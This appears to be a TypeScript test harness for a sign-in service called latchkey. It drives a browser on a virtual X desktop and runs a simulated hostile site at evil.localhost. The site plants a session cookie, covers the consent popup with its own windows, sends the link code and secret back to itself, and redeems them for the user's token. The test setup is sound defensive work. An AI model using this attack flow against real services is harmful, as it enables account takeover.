import { type ChildProcess, execFileSync, spawn } from "node:child_process";
import { once } from "node:events";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { createInterface } from "node:readline";
import { text } from "node:stream/consumers";
import { setTimeout as sleep } from "node:timers/promises";
import { endWithThisProcess } from "@/scripts/scratch-server";
import { listening } from "@/tests/support/place";
import { sendTo } from "@/tests/support/request";

// A screen with a window manager, and a browser on it that only a mouse and keys drive: whoever drives a browser by its
// protocol makes each of its windows believe that it has the focus.

interface Rectangle {
  x: number;
  y: number;
  height: number;
}

export type WindowManager = "openbox" | "twm";

/** By itself, it asks where each window goes. The focus follows its pointer. */
const TWM = 'RandomPlacement\nUsePPosition "on"\n';

export class Desktop {
  private constructor(
    readonly folder: string,
    private readonly screen: ChildProcess,
    private readonly display: string,
  ) {}

  static async open(manager: WindowManager): Promise<Desktop> {
    const folder = mkdtempSync(join(tmpdir(), "latchkey-desktop-"));
    const screen = spawn("Xvfb", ["-displayfd", "1", "-screen", "0", "1300x900x24"], {
      stdio: ["ignore", "pipe", "ignore"],
    });
    endWithThisProcess(screen, folder);
    const [number] = await once(createInterface(screen.stdout), "line");
    const desktop = new Desktop(folder, screen, `:${number}`);
    const settings = join(folder, "twmrc");
    writeFileSync(settings, TWM);
    desktop.start(manager, manager === "twm" ? ["-f", settings] : []);
    await sleep(1_000);
    return desktop;
  }

  /** Starts a program, which ends with the screen. */
  start(program: string, parameters: string[]): ChildProcess {
    return spawn(program, parameters, { stdio: "ignore", env: this.environment });
  }

  private get environment() {
    return { ...process.env, DISPLAY: this.display, HOME: this.folder };
  }

  /** Chains commands of xdotool, which does one after another without a pause. Returns what they print. */
  tell(...commands: (string | number)[]): string {
    return execFileSync("xdotool", commands.map(String), { env: this.environment, encoding: "utf8" }).trim();
  }

  /** The position and size of the window whose title contains this. */
  geometryOf(title: string): Rectangle {
    const id = this.tell("search", "--onlyvisible", "--name", title).split("\n").at(-1) ?? "";
    const told = this.tell("getwindowgeometry", "--shell", id);
    const of = (name: string) => Number(new RegExp(`^${name}=(-?\\d+)$`, "m").exec(told)?.[1]);
    return { x: of("X"), y: of("Y"), height: of("HEIGHT") };
  }

  async close(): Promise<void> {
    const ended = once(this.screen, "exit");
    this.screen.kill();
    await ended;
    rmSync(this.folder, { recursive: true, force: true, maxRetries: 5 });
  }
}

/** Where the site opens a window of the service, and the one that it opens over that. */
const BOX = "left=300,top=200,width=480,height=420";
const COVER = "left=250,top=150,width=620,height=560";
/** The time in which a page is there, also on a slow machine. */
const LOADED_MS = 6_000;

/** What the scripts of its pages have. */
const kit = (service: string, code: string) => `
  const LINK = ${JSON.stringify(`${service}/link?code=${code}`)};
  const openQuestion = (address = LINK) => window.open(address, "_blank", "popup,${BOX}");
  const openCover = () => window.open("/cover", "_blank", "popup,${COVER}");
  const later = (act) => setTimeout(act, ${LOADED_MS});
  const on = (type, act) => addEventListener(type, act, { once: true, capture: true });
  const say = (what) => fetch("/said", { method: "POST", body: JSON.stringify(what) });
  const openSignIn = async () => {
    const response = await fetch("${service}/link/code?access=identity");
    const got = { latchkey: "code", code: (await response.json()).code, secret: response.headers.get("Link-Secret") };
    await say({ ...got, origin: location.origin });
    addEventListener("message", ({ data, source }) => data.latchkey === "ready" && source.postMessage(got, "*"));
    return openQuestion("${service}/link?popup=1");
  };
`;

interface Code {
  code: string;
  secret: string;
  /** Of the page that asked for it. */
  origin?: string;
}

/** A site that attacks a service of this machine. Its entrance signs its visitor in there, as if long ago. */
export class HostileSite {
  code: Code = { code: "", secret: "" };
  private readonly heard = new Set<string>();
  private scripts: Record<string, string> = {};

  private constructor(
    private readonly server: Server,
    private readonly port: number,
    private readonly service: string,
    private readonly cookie: string,
  ) {}

  /** `cookie`: a session's, as the service sets it. */
  static async open(service: string, cookie: string): Promise<HostileSite> {
    const server = createServer();
    const port = await listening(server);
    const site = new HostileSite(server, port, service, cookie);
    server.on("request", async (request, response) => {
      const said: string | Code = request.url === "/said" ? JSON.parse(await text(request)) : "";
      if (typeof said === "string") site.heard.add(said);
      else site.code = said;
      const script = site.scripts[request.url ?? ""];
      response.setHeader("Content-Type", "text/html");
      if (request.url === "/enter")
        return response.writeHead(302, { "Set-Cookie": site.cookie, Location: site.address }).end();
      if (script === undefined) return response.writeHead(204).end();
      response.end(
        `<!doctype html><title>A site</title><body><script>{${kit(service, site.code.code)}${script}}</script>`,
      );
    });
    return site;
  }

  private get address() {
    return `http://evil.localhost:${this.port}/`;
  }

  /** Cookies know no ports: this address sets the service's. */
  get entrance() {
    return `http://127.0.0.1:${this.port}/enter`;
  }

  hasHeard = (what: string) => this.heard.has(what);

  /** Asks for a new code. `first` and `cover` are the scripts of its pages. */
  async prepare(first: string, cover: string): Promise<void> {
    const { body, headers } = await sendTo(this.service, "/link/code");
    this.code = { code: String(body?.code), secret: String(headers["link-secret"]) };
    this.heard.clear();
    this.scripts = { "/": `say("loaded"); ${first}`, "/cover": `${cover}; setTimeout(() => say("ready"), 1_500)` };
  }

  /** What the attacker's program has got by now. */
  async token(): Promise<string> {
    const { code, secret, origin } = this.code;
    const headers = { "Link-Secret": secret, ...(origin && { Origin: origin }) };
    return String((await sendTo(this.service, "/link/user", { headers, query: { code } })).body?.token);
  }

  close(): void {
    this.server.close();
    this.server.closeAllConnections();
  }
}
